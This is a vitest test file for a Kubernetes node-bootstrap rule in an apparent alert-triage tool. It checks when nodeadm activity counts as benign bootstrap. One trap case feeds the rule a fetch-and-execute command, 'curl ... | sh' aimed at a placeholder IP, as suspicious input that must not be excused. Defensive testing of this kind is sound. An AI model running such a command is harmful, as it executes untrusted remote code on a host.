import { describe, expect, it } from 'vitest';
import { buildIndex } from '../../../src/cluster/index.js';
import { correlate } from '../../../src/triage/correlate.js';
import { triageAlert } from '../../../src/triage/pipeline.js';
import { nodeBootstrap } from '../../../src/triage/rules/node-bootstrap.js';
import { alert, node, snapshot } from '../../support/cluster.js';

const NAME = 'ip-10-42-77-5.eu-central-1.compute.internal';
const fresh = node(NAME, '10.42.77.5');
fresh.metadata.creationTimestamp = '2026-12-03T13:11:40Z';

function run(a: ReturnType<typeof alert>) {
  const index = buildIndex([snapshot([fresh])]);
  const correlation = correlate(a, index);
  return { evidence: nodeBootstrap.evaluate({ alert: a, correlation, index }), verdict: triageAlert(a, { index }).verdict };
}
const nodeadm = (time: string, container?: ReturnType<typeof alert>['container']) =>
  alert({ host: 'ip-10-42-77-5', time, container, process: { name: 'nodeadm', path: '/usr/bin/nodeadm', commandLine: '/usr/bin/nodeadm init --skip run --config-source imds://user-data' }, ancestors: [{ name: 'systemd', path: '/usr/lib/systemd/systemd' }] });

describe('node-bootstrap', () => {
  it("nodeadm on the host 34 s before the node registered: the node's bootstrap", () => {
    const { evidence, verdict } = run(nodeadm('2026-12-03T13:11:05.718Z'));
    expect(evidence[0]).toMatchObject({ direction: 'benign', cause: 'workload-baseline', strength: 'medium' });
    expect(evidence[0].message).toMatch(/34 s before the node registered/);
    expect(verdict.label).toBe('likely-false-positive');
  });

  it('a child of the bootstrap agent (systemctl restarting containerd) is bootstrap too', () => {
    const a = alert({ host: 'ip-10-42-77-5', time: '2026-12-03T13:12:30Z', process: { name: 'systemctl', commandLine: 'systemctl restart containerd' }, ancestors: [{ name: 'nodeadm', path: '/usr/bin/nodeadm' }] });
    expect(run(a).evidence).toHaveLength(1);
  });

  it('traps: the same program long after the node joined, inside a container, or something else at boot', () => {
    expect(run(nodeadm('2026-12-03T16:00:00Z')).evidence).toEqual([]);
    expect(run(nodeadm('2026-12-03T13:11:05Z', { id: 'a'.repeat(64), name: 'tools', namespace: 'default' })).evidence).toEqual([]);
    const curl = alert({ host: 'ip-10-42-77-5', time: '2026-12-03T13:11:05Z', process: { name: 'curl', commandLine: 'curl -s http://203.0.113.5/x | sh' }, ancestors: [{ name: 'bash' }] });
    expect(run(curl).evidence).toEqual([]);
  });
});
